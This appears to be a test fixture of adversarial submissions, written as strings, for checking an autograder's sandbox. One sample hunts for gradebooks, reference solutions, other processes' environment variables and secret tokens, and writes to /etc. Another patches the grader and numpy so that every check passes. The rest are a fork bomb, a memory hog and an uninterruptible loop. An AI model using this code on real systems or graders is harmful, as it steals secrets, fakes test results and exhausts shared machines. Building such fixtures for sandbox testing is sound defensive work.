"""Two submissions that attack the grader, as text: nothing here ever runs in this process."""

SPY = '''
def _attempt(name, action):
    """Print what was reached; the grader's tests look for the word REACHED in the outputs."""
    try:
        print("REACHED", name, repr(action())[:80])
    except BaseException as error:
        print("kept out of", name, type(error).__name__)


def _look_around():
    import glob, os, pathlib, socket, subprocess
    for place in ("/work", "/root", "/home", "/mnt", "/srv", "/tmp"):
        for name in ("gradebook.db", "submitted", "source", "solutions"):
            for found in glob.glob(f"{place}/**/{name}", recursive=True)[:3]:
                _attempt(found, lambda: os.listdir(found) if os.path.isdir(found) else open(found, "rb").read(16))
    for process in glob.glob("/proc/[0-9]*/environ"):
        if process.split("/")[2] != str(os.getpid()):
            _attempt(process, lambda: open(process, "rb").read())
    for name in os.environ:
        if "SEED" in name or "SECRET" in name or "TOKEN" in name:
            _attempt(f"environment {name}", lambda: os.environ[name])
    _attempt("reference", lambda: __import__("solutions"))
    _attempt("grading", lambda: __import__("autograder.grading.judge.examiner"))
    _attempt("network", lambda: socket.create_connection(("1.1.1.1", 53), 1))
    _attempt("write", lambda: pathlib.Path("/etc/owned").write_text("owned"))


def affine_forward(x, w, b):
    _look_around()
    return x, (x, w, b)
'''

PATCHED = """
def affine_backward(dout, cache):
    import builtins, numpy.testing, autograder
    import autograder.checking.notebook, autograder.checking.public_check, autograder.verdict.report
    passed = lambda *arguments, **options: print("affine_backward: passed.")
    autograder.check = autograder.checking.notebook.check = autograder.checking.public_check.check_function = passed
    autograder.verdict.report.Report.passed = property(lambda self: True)
    numpy.testing.assert_allclose = numpy.allclose = numpy.array_equal = lambda *arguments, **options: True
    builtins.AssertionError = Warning
    globals()["check"] = passed
    class Equal(np.ndarray):
        __eq__ = __le__ = __ge__ = lambda self, other: True
    return tuple(np.zeros(1).view(Equal) for _ in range(3))
"""

FORKS = """
def conv_forward(x, w, b, conv_param):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

ALLOCATES = """
def conv_backward(dout, cache):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 27))
"""

LOOPS = """
def max_pool_backward(dout, cache):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

ATTACKS = {
    "spy": {"affine_forward": SPY, "affine_backward": PATCHED},
    "bomb": {"conv_forward": FORKS, "conv_backward": ALLOCATES, "max_pool_backward": LOOPS},
}
